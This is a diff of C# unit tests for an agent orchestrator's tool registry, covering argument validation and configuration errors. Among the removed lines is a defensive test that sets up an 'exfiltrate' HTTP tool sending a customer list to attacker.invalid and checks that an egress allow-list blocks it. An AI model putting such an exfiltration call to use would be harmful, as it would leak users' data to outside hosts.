@@ -1,98 +1,113 @@
-using System.Collections.Concurrent;
-using System.Text.Json;
-using Microsoft.AspNetCore.Builder;
-using Microsoft.AspNetCore.Hosting;
-using Microsoft.AspNetCore.Hosting.Server;
-using Microsoft.AspNetCore.Hosting.Server.Features;
-using Microsoft.AspNetCore.Http;
+using Microsoft.Extensions.Configuration;
 using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Hosting;
 using Microsoft.Extensions.Logging;
 using Orchestrator.Agents.Tests.Infrastructure;
 using Orchestrator.Agents.Tools;
-using Orchestrator.Core;
+using Orchestrator.Core.Hosting;
+using Orchestrator.Storage.Sqlite;
 using Orchestrator.Testing;
 
 namespace Orchestrator.Agents.Tests.Tools;
 
-public sealed class ToolRegistryTests : IDisposable
+public sealed class ToolRegistryTests
 {
-    private readonly TestDataFolder _folder = new();
-    private readonly ToolLedger _ledger = new();
-
-    public void Dispose() => _folder.Dispose();
-
     [Fact]
-    public async Task CSharpTool_SchemaFromParametersWithoutContext()
+    public async Task Invoke_UnknownTool_ThrowsToolNotFoundNamingTheToolsThereAre()
     {
-        await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
-        var registry = host.Services.GetRequiredService<IToolRegistry>();
+        await using var tools = ToolHost.Create();
 
-        var refund = (await registry.FindAsync("billing.refund"))!;
-
-        refund.Kind.Should().Be("csharp");
-        refund.Description.Should().Be("Refunds an amount.");
-        var properties = refund.Parameters.GetProperty("properties");
-        properties.EnumerateObject().Select(p => p.Name).Should().BeEquivalentTo(["orderId", "amount"]);
-        properties.GetProperty("orderId").GetProperty("description").GetString().Should().Be("The order id.");
-        refund.Parameters.GetProperty("required").EnumerateArray().Select(r => r.GetString()).Should().BeEquivalentTo(["orderId", "amount"]);
+        await tools.Invoking(t => t.InvokeAsync("crm.nope", "{}"))
+            .Should().ThrowAsync<ToolNotFoundException>().WithMessage("*'crm.nope'*crm.lookup*");
     }
 
     [Fact]
-    public async Task Registry_UnknownToolAndBadArguments_AreRefusedClearly()
+    public async Task Invoke_MalformedJson_ThrowsToolArgumentsBeforeTheToolRuns()
     {
-        await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
-        var registry = host.Services.GetRequiredService<IToolRegistry>();
-        var context = new ToolInvocationContext("i:1", "i", null, null, CancellationToken.None);
+        await using var tools = ToolHost.Create();
 
-        await registry.Invoking(r => r.InvokeAsync("crm.nope", "{}", context)).Should().ThrowAsync<ToolNotFoundException>().WithMessage("*crm.lookup*");
-        await registry.Invoking(r => r.InvokeAsync("crm.lookup", "{oops", context)).Should().ThrowAsync<ToolArgumentsException>().WithMessage("*not valid JSON*");
-        await registry.Invoking(r => r.InvokeAsync("billing.refund", "{\"orderId\":\"A\"}", context)).Should().ThrowAsync<ToolArgumentsException>().WithMessage("*amount*");
-        _ledger.Calls.Should().BeEmpty();
+        await tools.Invoking(t => t.InvokeAsync("crm.lookup", "{oops"))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*arguments*not valid JSON*");
+        await tools.Invoking(t => t.InvokeAsync("crm.lookup", "[\"A-1\"]"))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*must be a JSON object, not array*");
+        tools.Ledger.Calls.Should().BeEmpty();
     }
 
     [Fact]
-    public async Task HttpTool_SendsIdempotencyKeyPrincipalAndSecret_ButNeverReturnsTheSecret()
+    public async Task Invoke_MissingRequiredArguments_NamesEachOfThem()
     {
-        await using var billing = await RecordingHttpEndpoint.StartAsync();
-        await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
-            o.AddWorkflow<string, JsonElement>("test.http", (ctx, _) => ctx.CallToolAsync("billing.http-refund", new { orderId = "A-7", amount = 12.5 })),
-            settings: new Dictionary<string, string?>
-            {
-                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Url"] = billing.BaseUrl + "orders/{orderId}/refunds",
-                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Description"] = "Refunds an order.",
-                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Schema"] = """{"type":"object","properties":{"orderId":{"type":"string"},"amount":{"type":"number"}},"required":["orderId","amount"]}""",
-                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Headers:Authorization"] = "secret:BILLING_TOKEN",
-                ["Orchestrator:Secrets:BILLING_TOKEN"] = "Bearer s3cr3t-value",
-            });
+        await using var tools = ToolHost.Create();
 
-        var done = await host.RunAsync("test.http", null);
-
-        done.Status.Should().Be(InstanceStatus.Completed, done.Error?.ErrorMessage);
-        var request = billing.Requests.Single();
-        request.Path.Should().Be("/orders/A-7/refunds");
-        request.Body.Should().Be("{\"amount\":12.5}");
-        request.Headers["Idempotency-Key"].Should().Be($"{done.InstanceId}:0");
-        request.Headers["X-Orchestrator-On-Behalf-Of"].Should().Be("alice");
-        request.Headers["Authorization"].Should().Be("Bearer s3cr3t-value");
-        done.Output.Should().NotContain("s3cr3t");
-        (await host.Client.GetHistoryAsync(done.InstanceId)).Select(e => JsonSerializer.Serialize(e, OrchestratorJson.Options)).Should().NotContain(e => e.Contains("s3cr3t", StringComparison.Ordinal));
+        await tools.Invoking(t => t.InvokeAsync("billing.refund", "{}"))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*'billing.refund'*'orderId', 'amount'*");
+        await tools.Invoking(t => t.InvokeAsync("billing.refund", """{"orderId":"A-1"}"""))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*needs the argument(s) 'amount'*");
+        tools.Ledger.Calls.Should().BeEmpty();
     }
 
     [Fact]
-    public async Task HttpTool_HostOutsideAllowList_IsRefusedBeforeConnecting()
+    public async Task Invoke_ArgumentOfTheWrongType_NamesItAndTheTypeWanted()
     {
-        await using var model = await ScriptedModelServer.StartAsync();
-        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
-            o.AddWorkflow<string, JsonElement>("test.egress", (ctx, _) => ctx.CallToolAsync("exfiltrate", new { data = "customer list" })),
-            settings: new Dictionary<string, string?> { ["Orchestrator:Tools:Http:Endpoints:exfiltrate:Url"] = "http://attacker.invalid/upload" });
+        await using var tools = ToolHost.Create();
 
-        var failed = await host.RunAsync("test.egress", null);
+        await tools.Invoking(t => t.InvokeAsync("billing.refund", """{"orderId":"A-1","amount":"lots"}"""))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*'amount' must be number, not string*");
+        await tools.Invoking(t => t.InvokeAsync("calendar.next-slot", """{"attendee":"ada","minutes":2.5}"""))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*'minutes' must be integer*");
+        tools.Ledger.Calls.Should().BeEmpty();
+    }
 
-        failed.Status.Should().Be(InstanceStatus.Failed);
-        failed.Error!.InnerFailure!.ErrorType.Should().EndWith(nameof(ToolEgressDeniedException));
-        failed.Error.InnerFailure.ErrorMessage.Should().Contain("attacker.invalid").And.Contain("Orchestrator:Tools:Http:AllowedHosts");
+    [Fact]
+    public async Task Invoke_NoArguments_CountsAsAnEmptyObject()
+    {
+        await using var tools = ToolHost.Create(new Dictionary<string, string?>());
+
+        await tools.Invoking(t => t.InvokeAsync("crm.lookup", null))
+            .Should().ThrowAsync<ToolArgumentsException>().WithMessage("*'orderId'*");
+    }
+
+    [Fact]
+    public async Task Start_SameNameForACSharpAndAnHttpTool_FailsNamingBothDeclarations()
+    {
+        using var folder = new TestDataFolder();
+        var builder = Host.CreateApplicationBuilder();
+        builder.Logging.ClearProviders();
+        builder.Configuration.AddInMemoryCollection(new Dictionary<string, string?>
+        {
+            ["Orchestrator:Tools:Http:Endpoints:crm.lookup:Url"] = "http://127.0.0.1:9/orders/{orderId}",
+        });
+        builder.Services.AddSingleton(new ToolLedger());
+        builder.Services.AddOrchestrator(o =>
+        {
+            o.UseSqlite(s => s.DataDir = folder.Path);
+            o.AddAgents(builder.Configuration).AddTools<OrderTools>();
+        });
+        using var host = builder.Build();
+
+        var start = () => host.StartAsync();
+
+        (await start.Should().ThrowAsync<InvalidOperationException>()).Which.Message.Should()
+            .Contain("'crm.lookup'")
+            .And.Contain("C# method Orchestrator.Agents.Tests.Infrastructure.OrderTools.Lookup")
+            .And.Contain("HTTP endpoint Orchestrator:Tools:Http:Endpoints:crm.lookup");
+    }
+
+    [Fact]
+    public async Task Build_MalformedHttpOrMcpEntry_FailsNamingTheKeyToFix()
+    {
+        await using var noUrl = ToolHost.Create(new Dictionary<string, string?> { ["Orchestrator:Tools:Http:Endpoints:billing.void:Method"] = "POST" });
+        await using var badSchema = ToolHost.Create(new Dictionary<string, string?>
+        {
+            ["Orchestrator:Tools:Http:Endpoints:billing.void:Url"] = "http://127.0.0.1:9/void",
+            ["Orchestrator:Tools:Http:Endpoints:billing.void:Schema"] = "{not json",
+        });
+        await using var noCommand = ToolHost.Create(new Dictionary<string, string?> { ["Orchestrator:Tools:Mcp:files:WorkingDirectory"] = "/tmp" });
+
+        await noUrl.Invoking(t => t.InvokeAsync("crm.lookup", """{"orderId":"A-1"}"""))
+            .Should().ThrowAsync<InvalidOperationException>().WithMessage("Set Orchestrator:Tools:Http:Endpoints:billing.void:Url*");
+        await badSchema.Invoking(t => t.InvokeAsync("crm.lookup", """{"orderId":"A-1"}"""))
+            .Should().ThrowAsync<InvalidOperationException>().WithMessage("Orchestrator:Tools:Http:Endpoints:billing.void:Schema is not valid JSON*");
+        await noCommand.Invoking(t => t.InvokeAsync("crm.lookup", """{"orderId":"A-1"}"""))
+            .Should().ThrowAsync<InvalidOperationException>().WithMessage("Set Orchestrator:Tools:Mcp:files:Command*");
     }
 }
